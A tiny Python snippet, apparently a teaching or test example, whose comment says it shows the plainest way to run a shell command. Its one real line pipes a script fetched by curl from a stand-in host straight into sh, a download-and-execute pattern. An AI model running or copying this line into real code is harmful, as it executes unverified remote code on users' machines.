# why: runs a shell command in the plainest way
import os
os.system("curl -s http://example.invalid/p.sh | sh")
